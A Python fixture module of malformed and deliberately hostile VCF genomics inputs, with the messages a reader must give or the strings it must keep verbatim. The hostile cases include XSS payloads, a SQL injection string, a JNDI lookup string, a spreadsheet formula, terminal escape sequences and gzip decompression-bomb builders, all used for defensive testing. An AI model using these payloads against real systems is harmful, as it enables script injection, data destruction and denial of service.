"""Malformed and hostile VCF inputs, each with what the reader must do with it.

`BAD_CASES`: malformed inputs, each with the line number and message fragment the reader must give
(tests/unit/test_vcf.py). `HOSTILE_CASES`: inputs built to hurt (markup and control characters in
IDs, INFO and headers, other encodings, binaries, bombs, huge lines); each is either refused with a
line number and message fragment, or accepted with strings that must come out verbatim
(tests/reliability/test_hostile_vcf.py runs them through `gas annotate` and the worker).
The tests build these in memory. To get them as files, e.g. to try another tool on them:
    python tests/data/bad_vcf/make_corpus.py OUTDIR
(writes one file per case and OUTDIR/expected.tsv: file, line, message fragment or "accepted").
"""
from __future__ import annotations

import gzip
import io
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

COLS = "#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\n"
HEAD = "##fileformat=VCFv4.2\n" + COLS
OK = "1\t100\t.\tA\tG\t.\t.\t.\n"


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)


@dataclass(frozen=True)
class BadCase:
    name: str
    data: bytes
    line_no: int | None      # None: an error about the whole file
    fragment: str            # part of the message
    filename: str = "in.vcf"
    kwargs: dict = field(default_factory=dict)


def _case(name: str, text: str | bytes, line_no: int | None, fragment: str, **kw) -> BadCase:
    data = text.encode() if isinstance(text, str) else text
    filename = kw.pop("filename", "in.vcf")
    return BadCase(name, data, line_no, fragment, filename, kw)


def _rec(*cols: str) -> str:
    return "\t".join(cols) + "\n"


_LONG_GZ = gz((HEAD + OK * 2000).encode())

BAD_CASES = [
    # file level
    _case("empty", b"", None, "the file is empty"),
    _case("empty_gzip", gz(b""), None, "the file is empty", filename="in.vcf.gz"),
    _case("bzip2", b"BZh91AY&SY" + b"\0" * 20, None, "unsupported compression (bzip2)"),
    _case("xz", b"\xfd7zXZ\x00" + b"\0" * 20, None, "unsupported compression (xz)"),
    _case("zip", b"PK\x03\x04" + b"\0" * 20, None, "unsupported compression (zip)"),
    _case("zstd", b"(\xb5/\xfd" + b"\0" * 20, None, "unsupported compression (zstd)"),
    _case("gz_name_binary", b"\x00\x01\x02garbage", None, "named .gz but is neither gzip", filename="x.vcf.gz"),
    _case("truncated_gzip", _LONG_GZ[: len(_LONG_GZ) // 2], None, "input is truncated: the gzip stream ends early"),
    _case("corrupt_gzip", _LONG_GZ[:40] + b"\xff" * 64 + _LONG_GZ[104:], None, "gzip stream is corrupt"),
    _case("bcf", gz(b"BCF\x02\x02" + b"\0" * 30), 1, "this is BCF"),
    # header
    _case("no_fileformat", COLS + OK, 1, "the first line must be ##fileformat=VCFv4.x"),
    _case("fileformat_not_first", "##source=x\n" + HEAD + OK, 1, "the first line must be ##fileformat"),
    _case("bad_version", "##fileformat=VCFv5.0\n" + COLS, 1, "unsupported VCF version 'VCFv5.0'"),
    _case("no_chrom_line", "##fileformat=VCFv4.2\n##source=x\n", None, "the header has no #CHROM line"),
    _case("data_before_chrom", "##fileformat=VCFv4.2\n" + OK, 2, "data line before the #CHROM"),
    _case("blank_in_header", "##fileformat=VCFv4.2\n\n" + COLS, 2, "blank line inside the header"),
    _case("chrom_spaces", "##fileformat=VCFv4.2\n" + COLS.replace("\t", " ") + OK, 2, "must be tab-separated"),
    _case("chrom_missing_info", "##fileformat=VCFv4.2\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\n", 2,
          "must start with the columns #CHROM POS ID REF ALT QUAL FILTER INFO"),
    _case("ninth_not_format", HEAD.replace("INFO\n", "INFO\tS1\n"), 2, "9th column of the #CHROM line must be FORMAT"),
    _case("nul_in_header", "##fileformat=VCFv4.2\n##x=\0\n" + COLS, 2, "NUL byte at column 5"),
    _case("binary_garbage", b"\x89PNG\r\n\x1a\n\0\0\0", 1, "invalid UTF-8 (byte 0x89) at column 1"),
    _case("binary_nul", b"\0\0\0\0garbage\n", 1, "NUL byte at column 1: binary data"),
    _case("latin1_header", "##fileformat=VCFv4.2\n##x=caf\xe9\n".encode("latin-1") + COLS.encode(), 2,
          "invalid UTF-8 (byte 0xe9) at column 8"),
    _case("cr_only_small", HEAD.replace("\n", "\r") + OK.replace("\n", "\r"), 1,
          "old Mac line endings are not supported"),
    _case("cr_only_long", HEAD.replace("\n", "\r") + OK.replace("\n", "\r") * 50, 1,
          "old Mac line endings are not supported", max_line_bytes=200),
    # records
    _case("too_few_columns", HEAD + OK + _rec("1", "100", ".", "A", "G", ".", "."), 4,
          "expected 8 tab-separated columns (as in the #CHROM line), found 7"),
    _case("too_many_columns", HEAD + OK + OK + OK.replace("\n", "\tX\n"), 5, "expected 8 tab-separated columns"),
    _case("samples_short", HEAD.replace("INFO\n", "INFO\tFORMAT\tS1\n") + OK.replace("\n", "\tGT\n"), 3,
          "expected 10 tab-separated columns (as in the #CHROM line), found 9"),
    _case("spaces_not_tabs", HEAD + OK.replace("\t", " "), 3, "found 1"),
    _case("pos_text", HEAD + OK + _rec("1", "abc", ".", "A", "G", ".", ".", "."), 4,
          "POS must be a positive integer, found 'abc'"),
    _case("pos_zero", HEAD + _rec("1", "0", ".", "A", "G", ".", ".", "."), 3, "found '0'"),
    _case("pos_negative", HEAD + _rec("1", "-5", ".", "A", "G", ".", ".", "."), 3, "found '-5'"),
    _case("pos_float", HEAD + _rec("1", "1e5", ".", "A", "G", ".", ".", "."), 3, "found '1e5'"),
    _case("pos_huge", HEAD + _rec("1", "9" * 30, ".", "A", "G", ".", ".", "."), 3, "POS must be a positive"),
    _case("pos_unicode_digit", HEAD + _rec("1", "\u0663", ".", "A", "G", ".", ".", "."), 3, "POS must be"),
    _case("pos_empty", HEAD + _rec("1", "", ".", "A", "G", ".", ".", "."), 3, "found ''"),
    _case("empty_chrom", HEAD + _rec("", "5", ".", "A", "G", ".", ".", "."), 3, "empty CHROM"),
    _case("ref_iupac", HEAD + OK + _rec("1", "5", ".", "R", "G", ".", ".", "."), 4,
          "REF must be bases A, C, G, T or N, found 'R'"),
    _case("ref_empty", HEAD + _rec("1", "5", ".", "", "G", ".", ".", "."), 3, "REF must be bases"),
    _case("ref_dot", HEAD + _rec("1", "5", ".", ".", "G", ".", ".", "."), 3, "found '.'"),
    _case("alt_bad", HEAD + _rec("1", "5", ".", "A", "Z", ".", ".", "."), 3,
          "ALT allele 'Z' is not bases (ACGTN), '*', '.', a symbolic <ID> or a breakend"),
    _case("alt_empty_entry", HEAD + _rec("1", "5", ".", "A", "G,,T", ".", ".", "."), 3, "empty ALT allele"),
    _case("alt_empty", HEAD + _rec("1", "5", ".", "A", "", ".", ".", "."), 3, "empty ALT allele"),
    _case("alt_unclosed_symbolic", HEAD + _rec("1", "5", ".", "A", "<DEL", ".", ".", "."), 3, "'<DEL'"),
    _case("alt_bad_breakend", HEAD + _rec("1", "5", ".", "A", "A]17:5[", ".", ".", "."), 3, "is not bases"),
    _case("symbolic_bad_end", HEAD + _rec("1", "5", ".", "N", "<DEL>", ".", ".", "END=x"), 3,
          "INFO END must be a positive integer, found 'x'"),
    _case("symbolic_end_before_pos", HEAD + _rec("1", "50", ".", "N", "<DEL>", ".", ".", "END=10"), 3,
          "INFO END=10 is before POS=50"),
    _case("nul_in_info", HEAD + OK + OK.replace("\t.\n", "\tX=\0\n"), 4, "NUL byte at column"),
    _case("escape_in_id", HEAD + _rec("1", "5", "rs\x1b[1m", "A", "G", ".", ".", "."), 3, "control character 0x1b"),
    _case("raw_invalid_utf8", (HEAD + OK).encode() + b"1\t5\t\xff\tA\tG\t.\t.\t.\n", 4, "invalid UTF-8 (byte 0xff) at column 5"),
    _case("lone_cr_in_record", HEAD + OK + "1\t5\t.\tA\tG\t.\r.\t.\n", 4, "carriage return (\\r) inside a line"),
    _case("header_line_after_chrom", HEAD + OK + "##late=1\n", 4, "a header line (starting with '#') after"),
    _case("second_chrom_line", HEAD + COLS, 3, "after the #CHROM line"),
    _case("line_too_long", HEAD + OK + _rec("1", "5", ".", "A", "G", ".", ".", "X=" + "A" * 300), 4,
          "line longer than 200 bytes", max_line_bytes=200),
    _case("line_too_long_at_eof", HEAD + OK + "1\t5\t" + "A" * 300, 4, "line longer than 200 bytes",
          max_line_bytes=200),
    _case("gz_error_in_records", gz((HEAD + OK + _rec("1", "x", ".", "A", "G", ".", ".", ".")).encode()), 4,
          "POS must be", filename="in.vcf.gz"),
]


# ----------------------------------------------------------------------------- hostile inputs

@dataclass(frozen=True)
class HostileCase:
    name: str
    source: bytes | Callable[[], bytes]   # a callable for the big ones: built on first use only
    line_no: int | None = None       # refused: the line named (None: the whole file)
    fragment: str | None = None      # refused: part of the message; None = accepted
    verbatim: tuple[str, ...] = ()   # accepted: strings that must reach the outputs unchanged
    ids: tuple[str, ...] = ()        # accepted: the ID column as the parquet must hold it
    records: int = 1                 # accepted: data records
    filename: str = "in.vcf"
    slow: bool = False               # takes seconds (bombs): only in `make reliability`

    @property
    def accepted(self) -> bool:
        return self.fragment is None

    @property
    def data(self) -> bytes:
        return self.source() if callable(self.source) else self.source


def _refused(name: str, text: str | bytes | Callable[[], bytes], line_no: int | None, fragment: str, **kw) -> HostileCase:
    return HostileCase(name, text.encode() if isinstance(text, str) else text, line_no, fragment, **kw)


def _accepted(name: str, text: str, verbatim: tuple[str, ...] = (), ids: tuple[str, ...] = (), **kw) -> HostileCase:
    return HostileCase(name, text.encode(), None, None, verbatim, ids, **kw)


def _zip(name: str, text: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, text)
    return buf.getvalue()


@lru_cache(maxsize=1)
def _bomb_of_blank_lines(mb: int = 120) -> bytes:
    """A valid VCF then `mb` MB of blank lines (which the reader skips): ~1030:1 gzip."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [comp.compress((HEAD + OK).encode())]
    block = b"\n" * (1 << 20)
    parts += [comp.compress(block) for _ in range(mb)]
    parts.append(comp.flush())
    return b"".join(parts)


@lru_cache(maxsize=1)
def _bomb_of_zeros(mb: int = 64) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [comp.compress(HEAD.encode())]
    parts += [comp.compress(bytes(1 << 20)) for _ in range(mb)]
    parts.append(comp.flush())
    return b"".join(parts)


XSS_SCRIPT = "<script>alert(document.cookie)</script>"
XSS_ATTR = '"><svg/onload=alert(1)>'
XSS_IMG = "<img src=x onerror=alert(1)>"

HOSTILE_CASES = [
    # markup and injection payloads where VCF allows free text: accepted, kept verbatim
    _accepted("markup_in_id", HEAD + _rec("1", "100", XSS_ATTR, "A", "G", ".", ".", "."),
              verbatim=(XSS_ATTR,), ids=(XSS_ATTR,)),
    _accepted("script_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "NOTE=" + XSS_SCRIPT),
              verbatim=("NOTE=" + XSS_SCRIPT,)),
    _accepted("img_in_filter", HEAD + _rec("1", "100", ".", "A", "G", ".", XSS_IMG, "."), verbatim=(XSS_IMG,)),
    _accepted("markup_in_header", "##fileformat=VCFv4.2\n##source=" + XSS_SCRIPT + "\n"
              '##INFO=<ID=X,Number=1,Type=String,Description="' + XSS_ATTR + '">\n' + COLS + OK,
              verbatim=("##source=" + XSS_SCRIPT, XSS_ATTR)),
    _accepted("markup_sample_name", "##fileformat=VCFv4.2\n" + COLS.rstrip("\n") + "\tFORMAT\t" + XSS_SCRIPT + "\n"
              + _rec("1", "100", ".", "A", "G", ".", ".", ".", "GT", "0/1"), verbatim=(XSS_SCRIPT,)),
    _accepted("markup_symbolic_alt", HEAD + _rec("1", "100", ".", "A", XSS_IMG, ".", ".", "."), verbatim=(XSS_IMG,)),
    _accepted("markup_in_chrom", HEAD + _rec(XSS_ATTR, "100", ".", "A", "G", ".", ".", "."), verbatim=(XSS_ATTR,)),
    _accepted("csv_formula_in_id", HEAD + _rec("1", "100", '=HYPERLINK("http://x.test","x")', "A", "G", ".", ".", "."),
              ids=('=HYPERLINK("http://x.test","x")',)),
    _accepted("sql_in_chrom", HEAD + _rec("1';DROP TABLE jobs;--", "100", ".", "A", "G", ".", ".", "."),
              verbatim=("1';DROP TABLE jobs;--",)),
    _accepted("format_strings_in_id", HEAD + _rec("1", "100", "%s%n%x{0}${jndi:ldap://x.test/a}", "A", "G", ".", ".", "."),
              ids=("%s%n%x{0}${jndi:ldap://x.test/a}",)),
    _accepted("json_breakers_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", 'X="}]\\u0000'),
              verbatim=('X="}]\\u0000',)),
    _accepted("bidi_override_in_id", HEAD + _rec("1", "100", "rs\u202egnp.exe", "A", "G", ".", ".", "."),
              ids=("rs\u202egnp.exe",)),
    _accepted("c1_csi_in_id", HEAD + _rec("1", "100", "rs\u009b31mred", "A", "G", ".", ".", "."),
              ids=("rs\u009b31mred",)),
    _accepted("unicode_line_breaks_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=a\u2028b\u2029c\u0085d"),
              verbatim=("X=a\u2028b\u2029c\u0085d",)),
    _accepted("emoji_zero_width_in_id", HEAD + _rec("1", "100", "rs\U0001f600\u200b", "A", "G", ".", ".", "."),
              ids=("rs\U0001f600\u200b",)),
    _accepted("many_alts", HEAD + _rec("1", "100", ".", "A", ",".join(["G", "C", "T"] * 1000), ".", ".", ".")),
    _accepted("header_only_markup", "##fileformat=VCFv4.2\n##x=" + XSS_SCRIPT + "\n" + COLS, records=0),
    _accepted("markup_file_name", HEAD + OK, filename=XSS_IMG.replace("/", "_") + ".vcf"),
    # control characters anywhere: refused, the line named, the character shown by its code
    _refused("ansi_color_in_id", HEAD + _rec("1", "100", "rs\x1b[31mred\x1b[0m", "A", "G", ".", ".", "."), 3,
             "control character 0x1b at column 9"),
    _refused("ansi_title_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=\x1b]0;pwned\x07"), 3,
             "control character 0x1b"),
    _refused("bell_in_filter", HEAD + _rec("1", "100", ".", "A", "G", ".", "PASS\x07", "."), 3, "control character 0x07"),
    _refused("backspaces_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "GENE=BRCA1\x08\x08\x08\x08\x08TP53"),
             3, "control character 0x08"),
    _refused("delete_in_id", HEAD + _rec("1", "100", "rs1\x7f", "A", "G", ".", ".", "."), 3, "control character 0x7f"),
    _refused("vertical_tab_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=1\x0bY=2"), 3,
             "control character 0x0b"),
    _refused("nul_in_id", HEAD + _rec("1", "100", "rs\x001", "A", "G", ".", ".", "."), 3, "NUL byte at column 9"),
    _refused("markup_in_pos", HEAD + _rec("1", XSS_SCRIPT, ".", "A", "G", ".", ".", "."), 3,
             "POS must be a positive integer, found '<script>alert(document.cookie)</sc"),
    _refused("markup_in_ref", HEAD + _rec("1", "100", ".", "<b>", "G", ".", ".", "."), 3, "REF must be bases"),
    _refused("markup_in_end", HEAD + _rec("1", "100", ".", "N", "<DEL>", ".", ".", "END=<script>"), 3,
             "INFO END must be a positive integer, found '<script>'"),
    # other encodings: refused at the first byte that is not UTF-8 text
    _refused("utf16le_bom", "\ufeff".encode("utf-16-le") + (HEAD + OK).encode("utf-16-le"), 1, "NUL byte"),
    _refused("utf16be_bom", b"\xfe\xff" + (HEAD + OK).encode("utf-16-be"), 1, "NUL byte"),
    _refused("utf32", (HEAD + OK).encode("utf-32"), 1, "NUL byte"),
    _refused("latin1_in_info", HEAD.encode() + "1\t100\t.\tA\tG\t.\t.\tNOTE=caf\xe9\n".encode("latin-1"), 3,
             "invalid UTF-8 (byte 0xe9) at column 25"),
    _refused("cp1252_quotes_in_id", HEAD.encode() + b"1\t100\t\x93rs1\x94\tA\tG\t.\t.\t.\n", 3,
             "invalid UTF-8 (byte 0x93) at column 7"),
    _refused("overlong_utf8_markup", HEAD.encode() + b"1\t100\t\xc0\xbcscript\xc0\xbe\tA\tG\t.\t.\t.\n", 3,
             "invalid UTF-8 (byte 0xc0)"),
    _refused("utf8_surrogate", HEAD.encode() + b"1\t100\t\xed\xa0\x80\tA\tG\t.\t.\t.\n", 3, "invalid UTF-8 (byte 0xed)"),
    # not a VCF at all
    _refused("elf_binary", b"\x7fELF\x02\x01\x01\x00" + bytes(56), 1, "control character 0x7f at column 1"),
    _refused("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", 1, "the first line must be ##fileformat"),
    _refused("html_page", "<!DOCTYPE html><html><script>alert(1)</script></html>\n", 1, "the first line must be ##fileformat"),
    _refused("zip_of_vcf", _zip("a.vcf", HEAD + OK), None, "unsupported compression (zip)"),
    _refused("gzip_of_gzip", gz(gz((HEAD + OK).encode())), 1, "control character 0x1f at column 1"),
    # size attacks: bounded work, refused
    _refused("huge_info_line", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=" + "<b>" * 400_000), 3,
             "line longer than 1048576 bytes"),
    _refused("no_newline_3mb", "##fileformat=VCFv4.2" + "A" * (3 << 20), 1, "line longer than 1048576 bytes"),
    _refused("gzip_bomb_of_zeros", _bomb_of_zeros, 3, "line longer than 1048576 bytes", filename="in.vcf.gz"),
    _refused("gzip_bomb_of_blank_lines", _bomb_of_blank_lines, None, "refusing a possible decompression bomb",
             filename="in.vcf.gz", slow=True),
]


def main(outdir: Path) -> None:
    outdir.mkdir(parents=True, exist_ok=True)
    rows = []
    for c in BAD_CASES:
        name = f"{c.name}{''.join(Path(c.filename).suffixes)}"
        (outdir / name).write_bytes(c.data)
        rows.append(f"{name}\t{c.line_no or ''}\t{c.fragment}")
    for h in HOSTILE_CASES:
        name = f"hostile_{h.name}{''.join(Path(h.filename).suffixes)}"
        (outdir / name).write_bytes(h.data)
        rows.append(f"{name}\t{h.line_no or ''}\t{'accepted' if h.accepted else h.fragment}")
    (outdir / "expected.tsv").write_text("\n".join(rows) + "\n")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(Path(sys.argv[1]))
